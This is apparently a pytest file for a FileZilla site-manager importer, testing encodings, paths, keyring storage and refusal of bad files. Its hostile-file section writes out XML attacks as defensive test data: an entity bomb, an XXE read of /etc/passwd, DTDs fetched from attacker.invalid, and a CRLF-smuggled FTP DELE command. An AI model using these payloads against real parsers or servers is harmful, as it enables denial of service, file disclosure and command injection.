"""FileZilla site files: real-shaped files import; hostile or broken files import nothing."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from echouploader.core.errors import ImportRefused
from echouploader.core.sites import filezilla
from echouploader.core.sites.credentials import CredentialStorage
from echouploader.core.sites.store import EXPLICIT, IMPLICIT, LOGON_ASK, Site, SiteStore

FILES = Path(__file__).resolve().parents[2] / "data" / "filezilla"


def test_site_manager_with_nested_folders_and_every_protocol() -> None:
    parsed = filezilla.read_file(FILES / "sitemanager.xml")
    sites = {(i.site.name, i.site.user): i for i in parsed.sites}
    assert len(parsed.sites) == 4

    fetal = sites[("Fetal echo core lab", "site07")]
    assert fetal.site.folder == "Core lab"
    assert fetal.site.protocol == IMPLICIT and fetal.site.port == 990
    assert fetal.password == "Ekko-2024!site07"  # base64
    assert fetal.site.remote_dir == "/home/my dir/upload"
    assert fetal.site.max_connections == 4
    assert fetal.site.comments == "Upload one folder per exam"

    sahl = sites[("Sahlgrenska ekokardiografi", "site12")]
    assert sahl.site.folder == "Core lab/Göteborg"  # a folder inside a folder
    assert sahl.site.protocol == EXPLICIT and sahl.site.port == 21
    assert sahl.password == "pläin pass wörd"  # no encoding attribute: plain text
    assert sahl.site.remote_dir == "/uploads/Överföring 2"  # non-ASCII and a space

    backup = sites[("Sahlgrenska backup", "site12b")]
    assert backup.site.protocol == EXPLICIT  # protocol 0: explicit TLS, required
    assert backup.password is None  # encoding="crypt": FileZilla's master password
    assert any("master password" in n for n in backup.notes)
    assert any("explicit TLS required" in n for n in backup.notes)

    ask = sites[("Fetal echo core lab", "shared-laptop")]
    assert ask.site.logon == LOGON_ASK and ask.password is None

    skipped = {s.name: s.reason for s in parsed.skipped}
    assert "SFTP is not supported" in skipped["Old SFTP server"]
    assert "plain FTP" in skipped["Insecure FTP"]
    assert "Amazon S3 is not supported" in skipped["Archive bucket"]
    assert "not 1–65535" in skipped["Typo in port"]


def test_export_in_any_element_order_with_active_mode() -> None:
    (item,) = filezilla.read_file(FILES / "export-macos.xml").sites
    site = item.site
    assert (site.name, site.folder) == ("Core lab (explicit)", "Studie ECHO-2026")
    assert (site.host, site.port, site.protocol, site.user) == (
        "FTPS.CoreLab.Example",
        21,
        EXPLICIT,
        "malmo",
    )
    assert site.remote_dir == "/sites/Malmö/Año"
    assert site.passive is False and site.max_connections == 2
    assert item.password == "Wörd with spaces & <xml>"
    assert site.comments.splitlines()[0] == "Fråga core lab om certifikatet"


def test_legacy_trailing_name_text() -> None:
    (item,) = filezilla.read_file(FILES / "legacy-3.3.xml").sites
    assert item.site.name == "Lund (old FileZilla 3.3)"
    assert item.password == "legacy-plain"
    assert item.site.remote_dir == "/lund"


def test_recent_servers_are_named_after_their_host() -> None:
    parsed = filezilla.read_file(FILES / "recentservers.xml")
    assert parsed.kind == "recent servers"
    assert [i.site.name for i in parsed.sites] == ["ftps.corelab.example"]
    assert [s.name for s in parsed.skipped] == ["ftp.example.org"]


@pytest.mark.parametrize(
    ("safe_path", "expected"),
    [
        ("1 0 4 home 4 user", "/home/user"),
        ("1 0 4 home 6 my dir", "/home/my dir"),
        ("1 0 4 home 5 år 12", "/home/år 12"),
        ("1 0 6 ekko 😀 3 ab ", "/ekko 😀/ab "),  # lengths in code points (Linux, macOS)
        ("1 0 7 ekko 😀 2 ab", "/ekko 😀/ab"),  # lengths in UTF-16 units (Windows)
        ("1 0", "/"),
        ("", "/"),
    ],
)
def test_remote_dir_safe_path(safe_path: str, expected: str) -> None:
    assert filezilla.decode_remote_dir(safe_path)[0] == expected


@pytest.mark.parametrize(
    ("safe_path", "note"),
    [
        ("/home/user", "could not be read"),
        ("1 0 9 home", "could not be read"),
        ("3 0 2 C: 7 windows", "not a Unix-style path"),
        ("1 0 2 .. 3 etc", "unsafe"),
    ],
)
def test_unreadable_remote_dir_falls_back_to_root_with_a_note(safe_path: str, note: str) -> None:
    path, why = filezilla.decode_remote_dir(safe_path)
    assert path == "/" and note in why


def _xml(server_body: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<FileZilla3 version="3.66.5" platform="*nix">'
        f"<Servers><Server>{server_body}</Server></Servers></FileZilla3>\n"
    ).encode()


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("<Port>990</Port><Protocol>3</Protocol><Name>no host</Name>", "no host name"),
        ("<Host>h</Host><Port>0</Port><Protocol>3</Protocol><Name>p0</Name>", "not 1–65535"),
        ("<Host>h</Host><Port>abc</Port><Protocol>3</Protocol><Name>pa</Name>", "not 1–65535"),
        ("<Host>h</Host><Protocol>2</Protocol><Name>web</Name>", "HTTP is not supported"),
        ("<Host>h</Host><Protocol>5</Protocol><Name>webs</Name>", "HTTPS is not supported"),
        ("<Host>h</Host><Protocol>42</Protocol><Name>n</Name>", "protocol 42 is not supported"),
        ("<Host>h</Host><Protocol>x</Protocol><Name>n</Name>", "not a number"),
        ("<Host>bad host</Host><Protocol>3</Protocol><Name>n</Name>", "not valid"),
    ],
)
def test_unusable_entries_are_skipped_with_a_reason(body: str, reason: str) -> None:
    parsed = filezilla.parse_bytes(_xml(body))
    assert parsed.sites == []
    assert reason in parsed.skipped[0].reason


def test_port_defaults_to_the_mode_and_bad_base64_asks_on_connect() -> None:
    body = "<Host>h</Host><Protocol>4</Protocol><User>u</User><Pass encoding='base64'>@@@</Pass>"
    (item,) = filezilla.parse_bytes(_xml(body)).sites
    assert item.site.port == 21 and item.password is None
    assert any("could not be decoded" in n for n in item.notes)


# --- hostile and broken files: one clear error, nothing imported ----------------------------

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<FileZilla3><Servers><Server><Host>&lol4;</Host><Protocol>3</Protocol></Server></Servers></FileZilla3>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE FileZilla3 [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<FileZilla3><Servers><Server><Host>h</Host><Protocol>3</Protocol><Comments>&xxe;</Comments>
</Server></Servers></FileZilla3>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE FileZilla3 SYSTEM "http://attacker.invalid/fz.dtd">
<FileZilla3><Servers><Server><Host>h</Host><Protocol>3</Protocol></Server></Servers></FileZilla3>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE FileZilla3 [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<FileZilla3/>
"""
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE F [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
    b"<FileZilla3><Servers><Server><Host>" + b"&a;" * 1000 + b"</Host></Server></Servers>"
    b"</FileZilla3>"
)
GOOD = (FILES / "sitemanager.xml").read_bytes()
SETTINGS_ONLY = b"""<?xml version="1.0" encoding="UTF-8"?>
<FileZilla3 version="3.66.5" platform="windows"><Settings><Setting name="Use Pasv mode">1</Setting>
</Settings></FileZilla3>
"""
# "Göteborg" saved as Latin-1 while the declaration says UTF-8
LATIN1_AS_UTF8 = _xml("<Host>h</Host><Protocol>3</Protocol><Name>G~teborg</Name>").replace(
    b"~", b"\xf6"
)

DEEP = (
    b"<FileZilla3><Servers>"
    + b"<Folder>f" * 5000
    + b"<Server><Host>h</Host><Protocol>3</Protocol></Server>"
    + b"</Folder>" * 5000
    + b"</Servers></FileZilla3>"
)

HOSTILE = [
    ("billion-laughs", BOMB, "declares a DTD or entities"),
    ("external-entity", XXE, "declares a DTD or entities"),
    ("external-dtd", EXTERNAL_DTD, "declares a DTD or entities"),
    ("parameter-entity", PARAMETER_ENTITY, "declares a DTD or entities"),
    ("quadratic-blowup", QUADRATIC, "declares a DTD or entities"),
    ("truncated", GOOD[: len(GOOD) // 2], "is incomplete"),
    ("truncated-in-tag", GOOD[: GOOD.index(b"<Server>") + 4], "is incomplete"),
    ("empty", b"", "is empty"),
    ("only-whitespace", b"\n\r\n   \t", "is empty"),
    (
        "not-filezilla",
        b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>',
        "not a FileZilla file",
    ),
    ("html", b"<html><body><p>Sites</p></body></html>", "not a FileZilla file"),
    ("settings-not-sites", SETTINGS_ONLY, "without a site list"),
    ("no-servers-inside", b"<FileZilla3><Servers>\n</Servers></FileZilla3>", "contains no sites"),
    ("latin1-declared-utf8", LATIN1_AS_UTF8, "is not valid UTF-8 text"),
    (
        "unknown-encoding",
        b'<?xml version="1.0" encoding="x-klingon"?><FileZilla3/>',
        "unknown text encoding",
    ),
    ("binary", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "is not valid UTF-8 text"),
    ("ini-not-xml", b"[Site]\nHost=ftps.corelab.example\nPass=secret\n", "is not a valid XML file"),
    (
        "mismatched-tag",
        b"<FileZilla3><Servers><Server><Host>h</Server></Servers></FileZilla3>",
        "is damaged",
    ),
    ("two-documents", GOOD + GOOD, "is not a valid XML file"),
    ("folders-5000-deep", DEEP, "nests folders more than 32 deep"),
]


@pytest.mark.parametrize(("data", "message"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_hostile_or_broken_file_imports_nothing(
    tmp_path: Path, memory_keyring, data: bytes, message: str
) -> None:
    path = tmp_path / "sites.xml"
    path.write_bytes(data)
    store = SiteStore()
    with pytest.raises(ImportRefused) as err:
        filezilla.import_file(path, store, CredentialStorage())
    assert message in str(err.value)
    assert "\n" not in str(err.value)  # one sentence, no traceback
    assert not store.path.exists() and store.sites() == []
    assert memory_keyring.items == {}


@pytest.mark.parametrize(
    ("declared", "encoding", "bom"),
    [
        ("UTF-8", "utf-8", b"\xef\xbb\xbf"),
        ("UTF-16", "utf-16", b""),  # Python writes its own BOM
        ("UTF-8", "utf-16-le", b"\xff\xfe"),  # re-saved as "Unicode" in Notepad
        ("UTF-16-LE", "utf-16-le", b"\xff\xfe"),
        ("ISO-8859-1", "latin-1", b""),  # only if it says so
    ],
)
def test_byte_order_marks_and_other_encodings(declared: str, encoding: str, bom: bytes) -> None:
    text = GOOD.decode("utf-8").replace('encoding="UTF-8"', f'encoding="{declared}"')
    parsed = filezilla.parse_bytes(bom + text.encode(encoding))
    assert len(parsed.sites) == 4
    assert {i.site.remote_dir for i in parsed.sites} >= {"/uploads/Överföring 2"}


def test_too_large_and_missing_files(tmp_path: Path) -> None:
    big = tmp_path / "big.xml"
    with big.open("wb") as fh:
        fh.truncate(filezilla.MAX_FILE_BYTES + 1)
    with pytest.raises(ImportRefused, match="too large"):
        filezilla.read_file(big)
    with pytest.raises(ImportRefused, match="does not exist"):
        filezilla.read_file(tmp_path / "nothing.xml")
    with pytest.raises(ImportRefused, match="is a folder"):
        filezilla.read_file(tmp_path)


# --- into the store and the keyring ---------------------------------------------------------


def test_import_stores_sites_without_passwords_and_passwords_in_the_keyring(
    tmp_path: Path, memory_keyring
) -> None:
    source = tmp_path / "FileZilla export.xml"
    source.write_bytes(GOOD)
    store = SiteStore()
    store.add(Site(name="Fetal echo core lab", host="other.example", user="x"))
    summary = filezilla.import_file(source, store, CredentialStorage())

    names = [i["name"] for i in summary.imported]
    assert names == [
        "Fetal echo core lab 2",  # an existing site of that name: suffixed
        "Sahlgrenska ekokardiografi",
        "Sahlgrenska backup",
        "Fetal echo core lab 3",  # a duplicate inside the file too
    ]
    assert summary.imported[0]["renamed"] and summary.imported[0]["original_name"] == (
        "Fetal echo core lab"
    )
    assert len(summary.skipped) == 4
    assert any("skipped, SFTP" in line for line in summary.lines())

    assert memory_keyring.items == {
        ("EchoUploader", "site07@ftps.corelab.example:990"): "Ekko-2024!site07",
        ("EchoUploader", "site12@ftps.corelab.example:21"): "pläin pass wörd",
    }
    text = store.path.read_text(encoding="utf-8")
    assert "Ekko-2024!site07" not in text and "pläin" not in text
    assert base64.b64encode(b"Ekko-2024!site07").decode() not in text
    assert "pass" not in json.loads(text)["sites"][0]
    # the source file was read, not copied anywhere the program keeps files
    assert all(p.name != source.name for p in store.path.parent.rglob("*"))


def test_import_without_a_keyring_keeps_passwords_in_memory_and_says_so(tmp_path: Path) -> None:
    source = tmp_path / "sitemanager.xml"
    source.write_bytes(GOOD)
    creds = CredentialStorage()  # conftest: the failing backend, i.e. no keyring
    summary = filezilla.import_file(source, SiteStore(), creds)
    assert summary.passwords_in_memory_only
    assert "memory for this session only" in summary.keyring_notice
    site = SiteStore().get("Fetal echo core lab")
    assert creds.get_password(site.endpoint()) == "Ekko-2024!site07"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("<Host>ftps://h/x</Host><Protocol>3</Protocol><Name>n</Name>", "'host'"),
        ("<Host>h</Host><Protocol>3</Protocol><User>a&#13;DELE x</User><Name>n</Name>", "'user'"),
        (
            "<Host>h</Host><Protocol>3</Protocol><RemoteDir>1 0 3 a&#10;b</RemoteDir>",
            "'remote_dir'",
        ),
    ],
)
def test_entries_that_would_not_load_again_are_skipped(body: str, reason: str) -> None:
    parsed = filezilla.parse_bytes(_xml(body))
    assert parsed.sites == [] and reason in parsed.skipped[0].reason


def test_anonymous_logon_and_bracketed_ipv6_host() -> None:
    body = "<Host>[::1]</Host><Protocol>4</Protocol><Logontype>0</Logontype><Name>anon</Name>"
    (item,) = filezilla.parse_bytes(_xml(body)).sites
    assert item.site.user == "anonymous" and item.password is None
    assert "anonymous login" in item.notes
    assert item.site.host == "::1"
    assert item.site.endpoint().url("/") == "ftpes://anonymous@[::1]:21/"
